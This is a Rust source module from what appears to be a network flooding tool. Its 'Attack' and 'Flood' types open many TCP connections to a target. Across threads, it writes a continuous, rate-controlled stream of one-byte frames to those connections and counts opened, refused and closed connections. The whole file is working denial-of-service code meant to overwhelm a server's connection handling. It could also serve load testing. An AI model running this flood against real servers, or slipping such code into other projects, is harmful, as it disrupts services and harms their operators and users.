//! Connections full of frames of one byte.

use std::io::{ErrorKind, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use super::{Attack, Target};
use crate::cli;

const THREADS: u64 = 2;
/// Written to one connection at once: whole frames of one byte.
const CHUNK: usize = 3 * 1_365;
const CONNECT_TIMEOUT: Duration = Duration::from_millis(200);
/// All the connections get their part of what is written in this time.
const ROUND: Duration = Duration::from_millis(5);

pub(super) fn start(
    args: &cli::Flood,
    target: &Target,
    attack: &Arc<Attack>,
) -> Vec<JoinHandle<()>> {
    let connections = (args.connections / THREADS).max(1) as usize;
    let bytes_a_second = args.mbits * 1e6 / 8.0 / THREADS as f64;
    let to = target.tcp;
    (0..THREADS)
        .map(|_| {
            let attack = Arc::clone(attack);
            thread::spawn(move || write(to, connections, bytes_a_second, &attack))
        })
        .collect()
}

fn write(to: SocketAddr, connections: usize, bytes_a_second: f64, attack: &Attack) {
    let chunk: Vec<u8> = [0, 1, 0x55].repeat(CHUNK / 3);
    let mut streams: Vec<Option<TcpStream>> = (0..connections).map(|_| None).collect();
    let (begun, mut written) = (Instant::now(), 0_usize);
    let mut next = 0;
    while attack.goes_on() {
        let due = (begun.elapsed().as_secs_f64() * bytes_a_second) as usize;
        if written >= due {
            thread::sleep(ROUND);
            continue;
        }
        let stream = &mut streams[next];
        next = (next + 1) % connections;
        let Some(open) = stream else {
            match TcpStream::connect_timeout(&to, CONNECT_TIMEOUT) {
                Ok(new) => {
                    attack.count("connections opened", 1);
                    if new.set_nonblocking(true).is_ok() {
                        *stream = Some(new);
                    }
                }
                Err(_) => attack.count("connections not opened in time", 1),
            }
            continue;
        };
        match open.write(&chunk) {
            Ok(n) => written += n,
            Err(error) if error.kind() == ErrorKind::WouldBlock => written += CHUNK / 8,
            Err(_) => {
                attack.count("connections closed by the server", 1);
                *stream = None;
            }
        }
    }
    attack.count("bytes written", written as u64);
}
